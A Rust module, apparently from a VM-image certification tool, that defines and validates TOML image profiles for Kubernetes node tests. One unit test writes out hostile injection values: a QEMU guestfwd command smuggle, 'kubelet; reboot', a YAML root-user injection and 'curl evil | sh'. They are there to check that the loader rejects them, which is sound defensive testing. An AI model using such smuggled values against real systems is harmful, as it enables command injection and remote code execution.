//! Image profiles (`profiles/*.toml`): everything image-specific that the suites need,
//! so that a vendor certifies an image by writing a profile rather than code.
//! The format is documented in docs/profiles.md. A profile is vendor input: every value
//! that reaches the guest's shell, the seed or QEMU is typed ([`values`]) and checked
//! when the file is loaded.

pub mod rollout;
pub mod values;

use std::collections::BTreeMap;
use std::path::Path;
use std::time::Duration;

use serde::{Deserialize, Serialize};

pub use rollout::{PoolSpec, RolloutProfile, SkewPolicy, WorkloadProfile};
pub use values::{
    CriEndpoint, FileName, GuestPath, HttpUrl, UnitName, UrlPath, UserName, UserNetAddr, Word,
};

use crate::config_file::{self, ConfigError};

/// A parsed profile.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Profile {
    /// Profile name, e.g. `debian-fixture`.
    pub name: String,
    /// One line about the image family it describes.
    #[serde(default)]
    pub description: String,
    /// How the VM is shaped.
    #[serde(default)]
    pub vm: VmProfile,
    /// How nodegate logs in.
    #[serde(default)]
    pub ssh: SshProfile,
    /// How the node joins a control plane.
    #[serde(default)]
    pub join: JoinProfile,
    /// What the node's kubelet must be told to match the image, given at the join.
    #[serde(default)]
    pub kubelet: KubeletProfile,
    /// systemd unit names of the components.
    #[serde(default)]
    pub services: Services,
    /// Time budgets the image promises.
    #[serde(default)]
    pub budgets: Budgets,
    /// The node agent's protocol, for the endpoint nodegate hosts during a run; without
    /// it the image has no agent nodegate knows of, and the agent checks are not run.
    #[serde(default)]
    pub agent: Option<AgentProfile>,
    /// How a hot upgrade bundle is applied.
    #[serde(default)]
    pub upgrade: UpgradeProfile,
    /// How the image rolls out into a pool of legacy nodes (the roll-out suite).
    #[serde(default)]
    pub rollout: RolloutProfile,
    /// How each component's version is read from its binary (by manifest component
    /// name: `kubelet`, `containerd`...).
    #[serde(default)]
    pub components: BTreeMap<String, ComponentProfile>,
    /// Values the checks expect that the manifest does not carry.
    #[serde(default)]
    pub expect: BTreeMap<String, toml::Value>,
    /// Free-form values for vendor suites (`${profile.vars.NAME}`).
    #[serde(default)]
    pub vars: BTreeMap<String, String>,
}

/// VM shape.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct VmProfile {
    /// Firmware when the manifest has no kernel artifact: `uefi` or `bios`.
    pub firmware: Firmware,
    /// How the image takes its first-boot configuration: `cloud-init` (a NoCloud seed
    /// volume) or `ignition` (a config on QEMU's fw_cfg).
    pub first_boot: crate::vm::FirstBoot,
    /// The image must boot with Secure Boot enforcing: nodegate boots it on OVMF's
    /// Secure Boot firmware with Microsoft's keys enrolled, and `integrity::secure_boot`
    /// proves it from inside the guest.
    pub secure_boot: bool,
    /// Virtual CPUs.
    pub vcpus: u32,
    /// Memory in MiB.
    pub memory_mib: u64,
}

impl Default for VmProfile {
    fn default() -> Self {
        VmProfile {
            firmware: Firmware::Uefi,
            first_boot: crate::vm::FirstBoot::CloudInit,
            secure_boot: false,
            vcpus: 2,
            memory_mib: 2048,
        }
    }
}

/// Firmware for disk boot.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Firmware {
    /// OVMF.
    Uefi,
    /// SeaBIOS.
    Bios,
}

/// SSH login.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct SshProfile {
    /// The user cloud-init creates (with passwordless sudo).
    pub user: UserName,
}

impl Default for SshProfile {
    fn default() -> Self {
        SshProfile {
            user: UserName::known("nodegate"),
        }
    }
}

/// How the image joins.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct JoinProfile {
    /// `kubeadm`, `bootstrap-kubeconfig` or `script`.
    pub method: JoinMethodName,
    /// kubeadm preflight errors the image knowingly fails.
    #[serde(default)]
    pub ignore_preflight_errors: Vec<Word>,
    /// For `bootstrap-kubeconfig`: where the kubelet reads it; for `script`: the script.
    #[serde(default)]
    pub path: Option<GuestPath>,
}

impl Default for JoinProfile {
    fn default() -> Self {
        JoinProfile {
            method: JoinMethodName::Kubeadm,
            ignore_preflight_errors: Vec::new(),
            path: None,
        }
    }
}

/// Kubelet settings that must match the image (its container runtime, its resolver),
/// given to the node's kubelet when it joins, over the cluster's shared configuration.
/// Unset: the node keeps what its image and the cluster configure.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct KubeletProfile {
    /// `cgroupfs` or `systemd` (the image's containerd `SystemdCgroup`).
    pub cgroup_driver: Option<CgroupDriver>,
    /// The CRI socket, `unix:///...`.
    pub container_runtime_endpoint: Option<CriEndpoint>,
    /// The resolv.conf the kubelet gives pods.
    pub resolv_conf: Option<GuestPath>,
}

impl KubeletProfile {
    /// The settings for the join.
    pub fn settings(&self) -> crate::cluster::KubeletSettings {
        crate::cluster::KubeletSettings {
            cgroup_driver: self.cgroup_driver.map(|d| d.as_str().to_string()),
            container_runtime_endpoint: self
                .container_runtime_endpoint
                .as_ref()
                .map(|e| e.to_string()),
            resolv_conf: self.resolv_conf.as_ref().map(|p| p.to_string()),
        }
    }
}

/// The kubelet's cgroup drivers.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum CgroupDriver {
    /// cgroupfs.
    Cgroupfs,
    /// systemd.
    Systemd,
}

impl CgroupDriver {
    /// Its name, as the kubelet spells it.
    pub fn as_str(self) -> &'static str {
        match self {
            CgroupDriver::Cgroupfs => "cgroupfs",
            CgroupDriver::Systemd => "systemd",
        }
    }
}

/// Join methods by name.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum JoinMethodName {
    /// `kubeadm join` with a bootstrap token.
    Kubeadm,
    /// A bootstrap kubeconfig written where the kubelet reads it.
    BootstrapKubeconfig,
    /// The vendor's own script.
    Script,
}

/// Unit names. containerd's and the kubelet's default to the names their upstream
/// packages give them; the agent's is the image's own (no default).
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct Services {
    /// containerd's unit.
    pub containerd: UnitName,
    /// The kubelet's unit.
    pub kubelet: UnitName,
    /// The node agent's unit.
    pub agent: Option<UnitName>,
}

impl Default for Services {
    fn default() -> Self {
        Services {
            containerd: UnitName::known("containerd.service"),
            kubelet: UnitName::known("kubelet.service"),
            agent: None,
        }
    }
}

/// The node agent's side of the run: how to point it at nodegate's endpoint and what the
/// endpoint expects of it. Every value is the image's: none has a default but
/// `provision` (`write`).
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct AgentProfile {
    /// The endpoint's address as the guest dials it (forwarded to a host port), in
    /// QEMU's user network.
    pub guest_addr: UserNetAddr,
    /// The endpoint's port as the guest dials it.
    pub guest_port: u16,
    /// The bearer token the agent must send.
    pub token: Word,
    /// Registration path.
    pub register_path: UrlPath,
    /// Heartbeat path.
    pub heartbeat_path: UrlPath,
    /// The request JSON field naming the node.
    pub identity_field: Word,
    /// The promised heartbeat interval.
    #[serde(with = "duration_serde")]
    pub heartbeat_interval: Duration,
    /// How the agent gets its config.
    #[serde(default)]
    pub provision: AgentProvision,
    /// Where the agent reads its config in the guest.
    pub config_path: GuestPath,
    /// The config file's content; `@ENDPOINT@`, `@TOKEN@` and `@NODE_NAME@` are replaced.
    /// Written to the guest as a file (never through a shell).
    pub config: String,
    /// The agent's local state, fetched in the guest (JSON).
    pub state_url: HttpUrl,
}

impl AgentProfile {
    /// The agent's config for node `node`: `config` with its placeholders replaced.
    pub fn render_config(&self, node: &str) -> String {
        let endpoint = format!("http://{}:{}", self.guest_addr, self.guest_port);
        self.config
            .replace("@ENDPOINT@", &endpoint)
            .replace("@TOKEN@", &self.token)
            .replace("@NODE_NAME@", node)
    }
}

/// How the agent gets its configuration, the ways providers hand it over.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum AgentProvision {
    /// Written over SSH when the first agent check runs (an agent that watches its file).
    #[default]
    Write,
    /// Written over SSH, then the agent's unit restarted (an agent that reads its config
    /// only at start).
    WriteRestart,
    /// Written by the first-boot seed before the agent starts (a cloud's metadata
    /// service; also an agent whose unit waits for the file to exist).
    Seed,
}

/// How the image applies a hot upgrade bundle (`--upgrade-bundle`).
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct UpgradeProfile {
    /// The bundle payload that applies it, run as root from `guest_dir`.
    pub script: FileName,
    /// Where the verified payloads are placed in the guest.
    pub guest_dir: GuestPath,
}

impl Default for UpgradeProfile {
    fn default() -> Self {
        UpgradeProfile {
            script: FileName::known("upgrade.sh"),
            guest_dir: GuestPath::known("/var/lib/nodegate/upgrade"),
        }
    }
}

/// How a component's version is read: from the binary the signed manifest lists (its
/// path and digest), never from a command of the profile's choosing.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ComponentProfile {
    /// The binary in the guest; the manifest's `files` must list it with its digest.
    pub path: GuestPath,
    /// Arguments that make it print its version (each passed as one word).
    #[serde(default = "version_flag")]
    pub version_args: Vec<Word>,
    /// A regular expression over its output whose first group is the version, compared
    /// exactly with the manifest's component.
    pub version_pattern: String,
    /// The systemd unit that runs it, if one does (its running executable is checked
    /// after a hot upgrade).
    #[serde(default)]
    pub unit: Option<UnitName>,
}

fn version_flag() -> Vec<Word> {
    vec![Word::known("--version")]
}

impl ComponentProfile {
    /// The compiled `version_pattern` (checked at load time).
    pub fn pattern(&self) -> Result<regex::Regex, String> {
        let re = regex::Regex::new(&format!("(?m){}", self.version_pattern)).map_err(|e| {
            format!(
                "version_pattern {:?}: {}",
                self.version_pattern,
                crate::message::one_line(&e.to_string())
            )
        })?;
        if re.captures_len() < 2 {
            return Err(format!(
                "version_pattern {:?} has no capture group for the version",
                self.version_pattern
            ));
        }
        Ok(re)
    }
}

/// Time budgets, as humantime strings ("90s", "5m") in the file.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct Budgets {
    /// From QEMU's start until SSH answers.
    #[serde(with = "duration_serde")]
    pub ssh: Duration,
    /// From SSH until `systemctl is-system-running` settles.
    #[serde(with = "duration_serde")]
    pub ready: Duration,
    /// From the join command until the Node is Ready.
    #[serde(with = "duration_serde")]
    pub join: Duration,
}

impl Default for Budgets {
    fn default() -> Self {
        Budgets {
            ssh: Duration::from_secs(600),
            ready: Duration::from_secs(600),
            join: Duration::from_secs(600),
        }
    }
}

impl Profile {
    /// Reads a profile file.
    pub fn load(path: &Path) -> Result<Profile, ConfigError> {
        let text = std::fs::read_to_string(path).map_err(|source| ConfigError::Read {
            path: path.to_owned(),
            source,
        })?;
        Profile::parse(path, &text)
    }

    /// Parses and checks a profile's text (read from `path`, for messages).
    pub fn parse(path: &Path, text: &str) -> Result<Profile, ConfigError> {
        let p: Profile = config_file::parse(path, text)?;
        p.validate().map_err(|message| ConfigError::Invalid {
            path: path.to_owned(),
            message,
        })?;
        Ok(p)
    }

    /// The rules types cannot express; the message names the key.
    fn validate(&self) -> Result<(), String> {
        if self.name.trim().is_empty() {
            return Err("`name` is empty".into());
        }
        if self.join.method != JoinMethodName::Kubeadm && self.join.path.is_none() {
            return Err("[join] `path` is required for this join method".into());
        }
        if self
            .kubelet
            .resolv_conf
            .as_ref()
            .is_some_and(|p| p.contains(' '))
        {
            return Err("[kubelet] `resolv_conf`: a kubelet flag value takes no spaces".into());
        }
        if self.vm.secure_boot && self.vm.firmware != Firmware::Uefi {
            return Err("[vm] `secure_boot` needs `firmware = \"uefi\"`".into());
        }
        if !(1..=64).contains(&self.vm.vcpus) {
            return Err(format!("[vm] `vcpus` = {}: 1 to 64", self.vm.vcpus));
        }
        if !(256..=1 << 20).contains(&self.vm.memory_mib) {
            return Err(format!(
                "[vm] `memory_mib` = {}: 256 to 1048576",
                self.vm.memory_mib
            ));
        }
        if let Some(a) = &self.agent {
            if a.guest_port == 0 {
                return Err("[agent] `guest_port` = 0: a port is 1 to 65535".into());
            }
            if a.heartbeat_interval.is_zero() {
                return Err("[agent] `heartbeat_interval` must be more than zero".into());
            }
        }
        for (k, d) in [
            ("ssh", self.budgets.ssh),
            ("ready", self.budgets.ready),
            ("join", self.budgets.join),
        ] {
            if d.is_zero() {
                return Err(format!("[budgets] `{k}` must be more than zero"));
            }
        }
        self.rollout.validate()?;
        for (name, c) in &self.components {
            c.pattern()
                .map_err(|e| format!("[components.{}] {e}", crate::message::one_line(name)))?;
        }
        Ok(())
    }

    /// The profile as TOML (the effective profile written to the artifacts).
    pub fn to_toml(&self) -> String {
        toml::to_string_pretty(self).unwrap_or_default()
    }

    /// Variables `profile.*` for suites: every scalar of the profile by its dotted path.
    pub fn variables(&self) -> BTreeMap<String, String> {
        let mut out = BTreeMap::new();
        if let Ok(value) = serde_json::to_value(self) {
            flatten("profile", &value, &mut out);
        }
        out
    }
}

/// Whether `name` (a suite variable) is a profile value that a profile may leave unset:
/// an `[expect]`, `[vars]` or `[components.*]` entry, anything of `[agent]` or
/// `[kubelet]`, the agent's unit, a join script's path. A check using one that is unset
/// is not run, saying so; any other unknown name is a mistake in the suite.
pub fn optional_variable(name: &str) -> bool {
    const TABLES: [&str; 5] = ["expect", "vars", "components", "agent", "kubelet"];
    const KEYS: [&str; 2] = ["services.agent", "join.path"];
    let Some(rest) = name.strip_prefix("profile.") else {
        return false;
    };
    TABLES
        .iter()
        .any(|t| rest.strip_prefix(t).is_some_and(|r| r.starts_with('.')))
        || KEYS.contains(&rest)
}

/// Flattens a JSON tree into `prefix.a.b = value` entries (arrays joined by commas).
pub fn flatten(prefix: &str, value: &serde_json::Value, out: &mut BTreeMap<String, String>) {
    use serde_json::Value;
    match value {
        Value::Object(map) => {
            for (k, v) in map {
                flatten(&format!("{prefix}.{k}"), v, out);
            }
        }
        Value::Array(items) => {
            let parts: Vec<String> = items
                .iter()
                .map(|v| match v {
                    Value::String(s) => s.clone(),
                    other => other.to_string(),
                })
                .collect();
            out.insert(prefix.to_string(), parts.join(","));
        }
        Value::String(s) => {
            out.insert(prefix.to_string(), s.clone());
        }
        Value::Null => {}
        other => {
            out.insert(prefix.to_string(), other.to_string());
        }
    }
}

pub(crate) mod duration_serde {
    use std::time::Duration;

    use serde::{Deserialize, Deserializer, Serializer};

    pub fn serialize<S: Serializer>(d: &Duration, s: S) -> Result<S::Ok, S::Error> {
        s.serialize_str(&humantime::format_duration(*d).to_string())
    }

    pub fn deserialize<'de, D: Deserializer<'de>>(d: D) -> Result<Duration, D::Error> {
        let s = String::deserialize(d)?;
        humantime::parse_duration(&s)
            .map_err(|e| serde::de::Error::custom(format!("invalid duration {s:?}: {e}")))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn write(text: &str) -> (tempfile::TempDir, std::path::PathBuf) {
        let d = tempfile::tempdir().unwrap();
        let p = d.path().join("p.toml");
        std::fs::write(&p, text).unwrap();
        (d, p)
    }

    #[test]
    fn defaults_fill_what_a_minimal_profile_leaves_out() {
        let (_d, p) = write("name = \"x\"\n");
        let prof = Profile::load(&p).unwrap();
        assert_eq!(prof.ssh.user.as_str(), "nodegate");
        assert_eq!(prof.budgets.join, Duration::from_secs(600));
        let vars = prof.variables();
        assert_eq!(vars["profile.services.kubelet"], "kubelet.service");
        assert_eq!(vars["profile.budgets.join"], "10m");
    }

    #[test]
    fn the_first_boot_configuration_is_cloud_init_or_ignition() {
        let (_d, p) = write("name = \"x\"\n");
        assert_eq!(
            Profile::load(&p).unwrap().vm.first_boot,
            crate::vm::FirstBoot::CloudInit
        );
        let (_d, p) = write("name = \"x\"\n[vm]\nfirst_boot = \"ignition\"\n");
        assert_eq!(
            Profile::load(&p).unwrap().vm.first_boot,
            crate::vm::FirstBoot::Ignition
        );
        let (_d, p) = write("name = \"x\"\n[vm]\nfirst_boot = \"afterburn\"\n");
        let e = Profile::load(&p).unwrap_err().to_string();
        assert!(e.contains("first_boot") || e.contains("afterburn"), "{e}");
    }

    #[test]
    fn secure_boot_is_demanded_of_uefi_images_only() {
        let (_d, p) = write("name = \"x\"\n[vm]\nsecure_boot = true\n");
        assert!(Profile::load(&p).unwrap().vm.secure_boot);
        let (_d, p) = write("name = \"x\"\n[vm]\nfirmware = \"bios\"\nsecure_boot = true\n");
        let e = Profile::load(&p).unwrap_err().to_string();
        assert!(
            e.contains("`secure_boot` needs `firmware = \"uefi\"`"),
            "{e}"
        );
        assert!(e.contains("p.toml"), "{e}");
    }

    #[test]
    fn kubelet_settings_are_typed_and_reach_the_join() {
        let (_d, p) = write(
            "name = \"x\"\n[kubelet]\ncgroup_driver = \"systemd\"\n\
             container_runtime_endpoint = \"unix:///run/containerd/containerd.sock\"\n",
        );
        let prof = Profile::load(&p).unwrap();
        let k = prof.kubelet.settings();
        assert_eq!(k.cgroup_driver.as_deref(), Some("systemd"));
        assert_eq!(k.resolv_conf, None);
        assert_eq!(prof.variables()["profile.kubelet.cgroup_driver"], "systemd");
        for (bad, says) in [
            ("cgroup_driver = \"cgroup\"", "unknown variant `cgroup`"),
            (
                "container_runtime_endpoint = \"/run/c.sock\"",
                "is not unix:///PATH",
            ),
            (
                "container_runtime_endpoint = \"unix:///run/c.sock --v=9\"",
                "spaces",
            ),
            ("resolv_conf = \"/etc/r c\"", "takes no spaces"),
        ] {
            let (_d, p) = write(&format!("name = \"x\"\n[kubelet]\n{bad}\n"));
            let e = Profile::load(&p).unwrap_err().to_string();
            assert!(e.contains("p.toml") && e.contains(says), "{bad}: {e}");
        }
    }

    #[test]
    fn nothing_of_an_image_is_assumed_when_the_profile_leaves_it_out() {
        let (_d, p) = write("name = \"x\"\n");
        let prof = Profile::load(&p).unwrap();
        assert!(prof.agent.is_none());
        assert!(prof.services.agent.is_none());
        let vars = prof.variables();
        assert!(
            !vars.keys().any(|k| k.starts_with("profile.agent")),
            "{vars:?}"
        );
        assert!(!vars.contains_key("profile.services.agent"));
        for name in [
            "profile.services.agent",
            "profile.agent.state_url",
            "profile.expect.os_image",
            "profile.kubelet.cgroup_driver",
            "profile.components.kubelet.path",
        ] {
            assert!(optional_variable(name), "{name}");
        }
        for name in [
            "profile.services.kubelt",
            "profile.agents.x",
            "manifest.components.x",
        ] {
            assert!(!optional_variable(name), "{name}");
        }
        // An [agent] table names every value of the image's agent.
        let (_d, p) = write("name = \"x\"\n[agent]\ntoken = \"t\"\n");
        let e = Profile::load(&p).unwrap_err().to_string();
        assert!(e.contains("missing field"), "{e}");
    }

    #[test]
    fn a_misspelt_key_is_refused_with_its_line() {
        let (_d, p) = write("name = \"x\"\n[services]\nkubelett = \"k\"\n");
        let e = Profile::load(&p).unwrap_err().to_string();
        assert!(e.contains("p.toml:3:1: unknown field `kubelett`"), "{e}");
    }

    #[test]
    fn hostile_values_are_refused_with_file_line_and_key() {
        let (_d, p) = write("name = \"x\"\n[agent]\nguest_addr = \"10.0.2.101,guestfwd=tcp:10.0.2.9:1-cmd:touch /x\"\n");
        let e = Profile::load(&p).unwrap_err().to_string();
        assert!(e.contains("p.toml:3:"), "{e}");
        assert!(e.contains("agent.guest_addr"), "{e}");
        assert!(e.contains("is not an IPv4 address"), "{e}");
        let (_d, p) = write("name = \"x\"\n[services]\nkubelet = \"kubelet; reboot\"\n");
        let e = Profile::load(&p).unwrap_err().to_string();
        assert!(
            e.contains("p.toml:3:") && e.contains("services.kubelet"),
            "{e}"
        );
        let (_d, p) = write("name = \"x\"\n[ssh]\nuser = \"x\\n  - name: root\"\n");
        let e = Profile::load(&p).unwrap_err().to_string();
        assert!(e.contains("ssh.user"), "{e}");
        let (_d, p) =
            write("name = \"x\"\n[upgrade]\nkubelet_version_command = \"curl evil | sh\"\n");
        let e = Profile::load(&p).unwrap_err().to_string();
        assert!(e.contains("unknown field `kubelet_version_command`"), "{e}");
        let (_d, p) = write("name = \"x\"\n[components.kubelet]\npath = \"/usr/bin/kubelet\"\nversion_pattern = \"Kubernetes\"\n");
        let e = Profile::load(&p).unwrap_err().to_string();
        assert!(e.contains("[components.kubelet] version_pattern"), "{e}");
        let (_d, p) = write("name = \"x\"\n[vm]\nmemory_mib = 1\n");
        assert!(Profile::load(&p)
            .unwrap_err()
            .to_string()
            .contains("memory_mib"));
    }

    #[test]
    fn a_bad_duration_names_the_value() {
        let (_d, p) = write("name = \"x\"\n[budgets]\nssh = \"soon\"\n");
        let e = Profile::load(&p).unwrap_err().to_string();
        assert!(
            e.contains(":3:7: budgets.ssh: invalid duration \"soon\""),
            "{e}"
        );
    }
}
